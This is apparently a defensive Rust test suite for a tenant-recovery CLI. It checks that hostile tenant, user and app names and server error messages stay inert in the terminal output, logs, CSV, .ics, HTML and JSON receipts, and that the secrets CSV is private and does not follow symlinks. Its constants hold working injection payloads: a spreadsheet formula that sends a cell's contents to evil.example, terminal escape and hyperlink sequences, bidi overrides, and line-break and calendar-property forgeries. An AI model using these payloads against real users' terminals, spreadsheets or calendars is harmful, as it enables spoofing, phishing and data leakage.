//! A hostile tenant against the built binary, over loopback: its organization name, its admin's
//! display name and the app's name carry escape sequences, line breaks, bidi overrides and a
//! spreadsheet formula, and the server's error messages carry a second "what to do" line and a
//! terminal hyperlink. Every byte the CLI writes (stdout, stderr, its log, the CSV, the `.ics`,
//! the HTML and JSON receipt) must hold them as data only; the CSV with the secrets must be
//! readable by its owner only, whatever was at its path before.
//!
//! Secrets go to the real keychain under a test-only service name (the project's test command
//! provides an unlocked Secret Service).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use tenant_sim::{Fault, FaultKind, Options, Route, RunningSim, Scenario};

const BIN: &str = env!("CARGO_BIN_EXE_pmpc-recovery-cli");

/// The organization's display name, as the tenant's own admins may set it.
const TENANT_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&H3,\"x\") Contoso\x1b]0;pwned\x07\x1b[2J\r\nState: Ready\u{202E}lmth.exe\0";
/// The signed-in admin's display name.
const USER_NAME: &str = "Ada\x1b[31m Lovelace\nWhat to do: call +1 555 0100\u{202E}";
/// The app registration's name (it reaches the calendar text and the receipt).
const APP_NAME: &str = "PMPC Recovery\x07\u{202E}\r\nDESCRIPTION:forged;x,y";
/// What a server (or something between it and us) answers instead of a proper error.
const SERVER_MESSAGE: &str = "Refused.\r\nwhat to do: go to http://evil.example/fix \x1b]8;;http://evil.example\x07click\x1b]8;;\x07\u{202E}";
const DOMAIN: &str = "hostile.example";

fn http() -> reqwest::Client {
    recovery::http::install_tls_provider();
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

/// A simulator whose sign-in lands (without a page) on the admin of a tenant named
/// [`TENANT_NAME`], a Global Administrator called [`USER_NAME`].
async fn hostile_sim(faults: Vec<Fault>) -> RunningSim {
    let sim = tenant_sim::start(Options {
        scenario: Scenario {
            replication_delay: Duration::from_millis(100),
            secret_ready_delay: Duration::from_millis(100),
            role_propagation_delay: Duration::from_millis(100),
            faults,
            ..Scenario::default()
        },
        ..Options::default()
    })
    .await
    .unwrap();
    let answer = http()
        .post(format!("{}/_sim/tenants", sim.origin()))
        .json(&serde_json::json!({ "displayName": TENANT_NAME, "domain": DOMAIN }))
        .send()
        .await
        .unwrap();
    assert!(answer.status().is_success(), "{:?}", answer.text().await);
    let upn = format!("admin@{DOMAIN}");
    let answer = http()
        .post(format!("{}/_sim/tenants/{DOMAIN}/users", sim.origin()))
        .json(&serde_json::json!({
            "userPrincipalName": upn,
            "displayName": USER_NAME,
            "roles": ["Global Administrator"],
        }))
        .send()
        .await
        .unwrap();
    assert!(answer.status().is_success(), "{:?}", answer.text().await);
    sim.set_auto_sign_in(Some(upn));
    sim
}

fn cli(args: &[&str], sim: &RunningSim, data: &Path, service: &str) -> Command {
    let mut c = Command::new(BIN);
    c.args(args)
        .args([
            "--authority-host",
            sim.origin(),
            "--graph-base-url",
            &format!("{}/v1.0", sim.origin()),
            "--data-dir",
            &data.display().to_string(),
            "--keychain-service",
            service,
            "--app-name",
            APP_NAME,
            "--http-browser",
            "--fast",
        ])
        .env_remove("PMPC_RECOVERY_CRASH_AT")
        .env_remove("PMPC_RECOVERY_TENANT")
        // Info, so the retried request's server message reaches the log on stderr.
        .env("PMPC_RECOVERY_LOG", "info");
    c
}

async fn output(mut c: Command) -> Output {
    tokio::task::spawn_blocking(move || c.output().unwrap())
        .await
        .unwrap()
}

/// Characters that act instead of being shown: C0 and C1 controls, DEL, bidi controls.
fn acts(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// `bytes` as UTF-8 with no acting character but those in `allowed`; panics naming `what`.
fn inert<'a>(what: &str, bytes: &'a [u8], allowed: &[char]) -> &'a str {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    let chars: Vec<char> = text.chars().collect();
    if let Some(i) = chars.iter().position(|c| acts(*c) && !allowed.contains(c)) {
        let around: String = chars[i.saturating_sub(60)..(i + 20).min(chars.len())]
            .iter()
            .collect();
        panic!("{what}: {:?} at character {i}, in …{around:?}…", chars[i]);
    }
    text
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_names_and_server_messages_stay_data_on_the_terminal_and_in_every_file() {
    let refuse = |route, nth, status| Fault {
        route,
        nth,
        kind: FaultKind::Refuse {
            status,
            message: SERVER_MESSAGE.into(),
        },
    };
    // The first read of the organization is refused as busy (retried, so logged); every
    // client secret is refused (the run fails at step 13 with the server's message).
    let sim = hostile_sim(vec![
        refuse(Route::GetOrganization, 1, 503),
        refuse(Route::AddPassword, 0, 400),
    ])
    .await;
    let data = tempfile::tempdir().unwrap();
    let files = tempfile::tempdir().unwrap();
    let service = format!("pmpc-recovery-hostiletest-{}-run", std::process::id());
    let run = |args: &[&str]| cli(args, &sim, data.path(), &service);

    let o = output(run(&["run", "--json"])).await;
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let stderr = inert("run's stderr", &o.stderr, &['\n']);
    let stdout = inert("run's stdout", &o.stdout, &['\n']);
    // JSON keeps the server's words as they were, escaped by JSON itself.
    let error: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
    assert!(
        error["error"]["message"]
            .as_str()
            .unwrap()
            .ends_with(SERVER_MESSAGE),
        "{error}"
    );
    // On the terminal, the only "what to do" line is ours, and the message stays on its line.
    let what_to_do: Vec<&str> = stderr
        .lines()
        .filter(|l| l.to_lowercase().starts_with("what to do"))
        .collect();
    assert_eq!(what_to_do.len(), 1, "{stderr}");
    assert!(!what_to_do[0].contains("evil.example"), "{stderr}");
    assert!(
        stderr.lines().any(|l| l.starts_with("error: ")
            && l.contains("Refused.  what to do: go to http://evil.example/fix")),
        "{stderr}"
    );
    // The tenant's name in the progress lines: shown, on its line, nothing in it acts.
    assert!(
        stderr.contains("Contoso\u{FFFD}]0;pwned\u{FFFD}\u{FFFD}[2J  State: Ready\u{FFFD}lmth.exe"),
        "{stderr}"
    );
    assert!(
        !stderr.lines().any(|l| l.trim_start().starts_with("State:")),
        "{stderr}"
    );
    // The log's record of the retried read is one line, the message's line break written out.
    assert!(
        stderr
            .lines()
            .any(|l| l.contains("retrying") && l.contains("Refused.\\r\\nwhat to do: go to")),
        "{stderr}"
    );

    // status: one State line, ours.
    let o = output(run(&["status"])).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let status = inert("status", &o.stdout, &['\n']);
    let states: Vec<&str> = status
        .lines()
        .filter(|l| l.trim_start().starts_with("State:"))
        .collect();
    assert_eq!(states.len(), 1, "{status}");
    assert!(states[0].contains("Failed at step 13"), "{status}");
    assert!(
        status.lines().next().unwrap().contains("=HYPERLINK"),
        "{status}"
    );

    // The receipt: HTML with the names escaped and isolated, JSON with them intact.
    let html_path = files.path().join("receipt.html");
    let o = output(run(&["receipt", "--out", html_path.to_str().unwrap()])).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let html_bytes = std::fs::read(&html_path).unwrap();
    let html = inert("the HTML receipt", &html_bytes, &['\n']);
    assert!(
        html.contains("<bdi>=HYPERLINK(&quot;http://evil.example/?&quot;&amp;H3,&quot;x&quot;) Contoso]0;pwned[2J\nState: Readylmth.exe</bdi>"),
        "{html}"
    );
    assert!(
        html.contains("<bdi>Ada[31m Lovelace\nWhat to do: call +1 555 0100</bdi>"),
        "{html}"
    );
    assert!(!html.contains("<script") && !html.contains("http://evil.example/?\""));
    let o = output(run(&["receipt", "--format", "json"])).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let receipt: serde_json::Value =
        serde_json::from_str(inert("the JSON receipt on stdout", &o.stdout, &['\n'])).unwrap();
    assert_eq!(receipt["tenant"]["name"], TENANT_NAME, "the data is kept");
    assert_eq!(receipt["signedIn"][0]["displayName"], USER_NAME);

    // The calendar file: CRLF line ends only, one property per line, none forged.
    let ics_path = files.path().join("deadline.ics");
    let o = output(run(&["status", "--ics", ics_path.to_str().unwrap()])).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let ics_bytes = std::fs::read(&ics_path).unwrap();
    let ics = inert("the .ics", &ics_bytes, &['\r', '\n']);
    assert!(!ics.replace("\r\n", "").contains(['\r', '\n']), "{ics:?}");
    let unfolded = ics.replace("\r\n ", "");
    let names: Vec<&str> = unfolded
        .lines()
        .map(|l| l.split([':', ';']).next().unwrap_or_default())
        .collect();
    assert_eq!(
        names,
        [
            "BEGIN",
            "VERSION",
            "PRODID",
            "CALSCALE",
            "METHOD",
            "BEGIN",
            "UID",
            "DTSTAMP",
            "DTSTART",
            "SUMMARY",
            "DESCRIPTION",
            "TRANSP",
            "CLASS",
            "SEQUENCE",
            "BEGIN",
            "ACTION",
            "TRIGGER",
            "DESCRIPTION",
            "END",
            "END",
            "END"
        ],
        "{unfolded}"
    );
    assert!(
        unfolded.contains("PMPC Recovery\\nDESCRIPTION:forged\\;x\\,y"),
        "{unfolded}"
    );
    sim.shutdown().await;
}

/// The mode bits of `path` (not following a symlink there).
#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o777
}

/// RFC 4180 fields of one row (quotes doubled inside quoted fields).
#[cfg(unix)]
fn fields(row: &str) -> Vec<String> {
    let mut out = vec![String::new()];
    let (mut quoted, mut chars) = (false, row.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                out.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => out.push(String::new()),
            (c, _) => out.last_mut().unwrap().push(c),
        }
    }
    out
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn the_batch_csv_holds_text_not_formulas_and_is_private_over_a_readable_file_or_a_symlink() {
    use std::os::unix::fs::PermissionsExt;
    let sim = hostile_sim(vec![]).await;
    let data = tempfile::tempdir().unwrap();
    let files = tempfile::tempdir().unwrap();
    let service = format!("pmpc-recovery-hostiletest-{}-csv", std::process::id());
    let batch_file = files.path().join("customers.txt");
    std::fs::write(&batch_file, format!("{DOMAIN} @SUM(1+1)\n")).unwrap();
    let csv = files.path().join("report.csv");
    // A report left from before, readable by everyone.
    std::fs::write(&csv, "old").unwrap();
    std::fs::set_permissions(&csv, std::fs::Permissions::from_mode(0o644)).unwrap();
    let batch = || {
        cli(
            &[
                "batch",
                batch_file.to_str().unwrap(),
                "--show-secrets",
                "--json",
                "--csv",
                csv.to_str().unwrap(),
            ],
            &sim,
            data.path(),
            &service,
        )
    };

    let o = output(batch()).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    inert("batch's stderr", &o.stderr, &['\n']);
    let report: serde_json::Value =
        serde_json::from_str(inert("batch's stdout", &o.stdout, &['\n'])).unwrap();
    let secret = report["tenants"][0]["clientSecret"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(report["tenants"][0]["tenantName"], TENANT_NAME);

    assert_eq!(
        mode(&csv),
        0o600,
        "the secrets are readable by their owner only"
    );
    let bytes = std::fs::read(&csv).unwrap();
    let text = inert("the CSV", &bytes, &['\r', '\n']);
    let text = text.strip_prefix('\u{FEFF}').expect("a UTF-8 BOM first");
    let rows: Vec<&str> = text.split("\r\n").filter(|r| !r.is_empty()).collect();
    assert_eq!(rows.len(), 2, "a header and one row: {text:?}");
    let header = fields(rows[0]);
    let row = fields(rows[1]);
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].clone();
    assert_eq!(
        cell("Tenant name"),
        "'=HYPERLINK(\"http://evil.example/?\"&H3,\"x\") Contoso]0;pwned[2J  State: Readylmth.exe"
    );
    assert_eq!(cell("Label"), "'@SUM(1+1)");
    assert_eq!(cell("Client secret"), secret, "the secret exactly as it is");
    for value in row.iter().filter(|v| **v != secret) {
        assert!(
            !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{value:?} would be a formula"
        );
    }

    // Now the path is a symlink to someone else's readable file: it is replaced, not followed.
    std::fs::remove_file(&csv).unwrap();
    let theirs = files.path().join("theirs.csv");
    std::fs::write(&theirs, "theirs").unwrap();
    std::fs::set_permissions(&theirs, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::symlink(&theirs, &csv).unwrap();
    let o = output(batch()).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(!std::fs::symlink_metadata(&csv)
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(mode(&csv), 0o600);
    assert!(std::fs::read_to_string(&csv).unwrap().contains(&secret));
    assert_eq!(std::fs::read_to_string(&theirs).unwrap(), "theirs");
    assert_eq!(mode(&theirs), 0o644);
    sim.shutdown().await;
}
